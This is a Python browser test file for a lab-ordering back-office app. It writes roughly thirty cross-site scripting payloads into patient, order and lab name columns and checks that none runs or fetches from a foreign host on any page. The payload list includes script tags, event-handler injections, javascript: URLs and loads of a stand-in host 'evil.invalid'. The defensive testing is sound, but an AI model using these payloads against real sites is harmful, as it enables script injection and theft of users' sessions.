"""A small version of promise P14: script payloads in names run on no page and in no admin page.

They also cause no violation of the content security policy and no request to another host.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

import pytest

from tests.browser import Browser, browser, needs_browser
from tests.browser.office import Office, running_office

pytestmark = needs_browser

MARK: Final = "window.__ran=1"
EVIL: Final = "//evil.invalid/x"
PAYLOADS: Final = (
    f"<script>{MARK}</script>", f"<ScRiPt>{MARK}</sCrIpT>", f"<script src={EVIL}></script>",
    f"</title><script>{MARK}</script>", f"</textarea><script>{MARK}</script>",
    f"</script><script>{MARK}</script>", f"--><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>", f"<img src={EVIL}>", f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<body onload={MARK}>", f"<iframe srcdoc='<script>parent.{MARK}</script>'>",
    f"<iframe src=javascript:parent.{MARK}>", f"<a href=javascript:{MARK}>x</a>",
    f"<details open ontoggle={MARK}>x", f"<input autofocus onfocus={MARK}>",
    f'" onmouseover="{MARK}', f"' onfocus='{MARK}' autofocus='", f'" autofocus onfocus="{MARK}',
    f"<style>@import '{EVIL}'</style>", f'<link rel=stylesheet href="{EVIL}">',
    f'<base href="{EVIL}">', f"<object data={EVIL}>", f"<form action={EVIL}><button>x</button>",
    f"<meta http-equiv=refresh content=0;url={EVIL}>", "{{7*7}}{% load x %}", f"javascript:{MARK}",
    f'<div hx-get="{EVIL}" hx-trigger="load">x</div>', f"<math><mtext><style><img onerror={MARK}>",
)  # fmt: skip
RECORD_PROBLEMS: Final = """
sessionStorage.wrong ||= "[]";
const record = (what) =>
  sessionStorage.wrong = JSON.stringify([...JSON.parse(sessionStorage.wrong), what]);
for (const name of ["alert", "confirm", "prompt"]) window[name] = () => record(name);
addEventListener("securitypolicyviolation", (event) =>
  record(`${location.pathname}: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
addEventListener("error", (event) =>
  event.message && record(`${location.pathname}: ${event.message}`));
"""
"""Runs before any script of a page."""
READ_PROBLEMS: Final = """
const foreign = performance.getEntriesByType("resource").map((one) => one.name)
  .filter((name) => !name.startsWith(location.origin) && !name.startsWith("data:"));
const markup = document.querySelector("base, [onerror], [onload], [onfocus], [ontoggle]");
return [...JSON.parse(sessionStorage.wrong), ...foreign,
  ...(window.__ran ? ["it ran"] : []), ...(markup ? ["markup"] : [])];
"""
PAYLOAD_COLUMNS: Final = (
    ("patients_demographics", "user_id", ("first_name", "last_name", "city", "email")),
    ("patients_connection", "user_id::text || slug", ("name", "error_message", "status", "logo")),
    ("orders_order", "id", ("patient_first_name", "patient_last_name", "lab_test_name",
                            "last_status", "low_level_status", "status")),
    ("orders_appointment", "id", ("provider", "status")),
    ("orders_resultmarker", "result_id::text || position", ("name", "text", "unit", "notes")),
    ("labs_lab", "id", ("name",)),
    ("labs_labtest", "id", ("name", "description")),
    ("labs_marker", "id", ("name",)),
    ("accounts_user", "id", ("first_name", "last_name")),
)  # fmt: skip


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    with running_office(tmp_path_factory.mktemp("back_offices"), users=12, orders=40) as office:
        for table, key, columns in PAYLOAD_COLUMNS:
            existing = {
                name
                for (name,) in office.back_office.query(
                    "SELECT column_name FROM information_schema.columns WHERE table_name = %s",
                    [table],
                )
            }
            for offset, column in enumerate(name for name in columns if name in existing):
                office.back_office.query(
                    f'UPDATE "{table}" SET "{column}" ='
                    f" (%s::text[])[1 + (abs(hashtext({key}::text)) + %s) %% %s]",
                    [list(PAYLOADS), offset, len(PAYLOADS)],
                )
        yield office


@pytest.fixture(scope="module")
def page(office: Office) -> Iterator[Browser]:
    with browser() as page:
        page.devtools("Page.addScriptToEvaluateOnNewDocument", {"source": RECORD_PROBLEMS})
        office.log_in(page, "administrator")
        yield page


def visited_paths(office: Office) -> list[str]:
    back_office = office.back_office
    order, patient = back_office.query("SELECT id::text, user_id::text FROM orders_order LIMIT 1")[
        0
    ]
    lab = back_office.value("SELECT id FROM labs_lab LIMIT 1")
    user = back_office.value("SELECT id FROM accounts_user LIMIT 1")
    orders = back_office.query("SELECT order_id::text FROM orders_result LIMIT 3")
    people = back_office.query("SELECT user_id::text FROM patients_demographics LIMIT 6")
    return [
        "/today/", "/orders/", "/patients/", "/appointments/", "/results/", "/exceptions/",
        "/labs/", f"/labs/{lab}/", f"/orders/{order}/", f"/orders/new/{patient}/",
        f"/patients/{patient}/details/", "/system/", "/notifications/",
        *(f"/patients/{one}/" for (one,) in people), *(f"/results/{one}/" for (one,) in orders),
        *(f"/patients/{one}/devices/" for (one,) in people[:2]),
        "/admin/", "/admin/accounts/user/", f"/admin/accounts/user/{user}/change/",
        "/admin/accounts/user/add/", "/admin/auth/group/",
    ]  # fmt: skip


def test_corpus_has_at_least_thirty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 30


def test_checks_detect_policy_violation(page: Browser, office: Office) -> None:
    """The test below must be able to fail."""
    page.open(f"{office.url}/orders/")
    page.run("document.body.insertAdjacentHTML('beforeend', '<p style=\"color:red\">x</p>')")
    assert page.run(READ_PROBLEMS)
    page.run("sessionStorage.wrong = '[]'")


def test_no_payload_runs_on_any_page(page: Browser, office: Office) -> None:
    wrong: dict[str, list[str]] = {}
    shown = 0
    for path in visited_paths(office):
        page.open(f"{office.url}{path}")
        assert page.url == f"{office.url}{path}", f"{path} leads to {page.url}"
        shown += "evil.invalid" in page.text() or "__ran" in page.text()
        if found := page.run(READ_PROBLEMS):
            wrong[path] = found
            page.run("sessionStorage.wrong = '[]'")
    assert not wrong
    assert shown >= 10, "payloads are shown, as text"
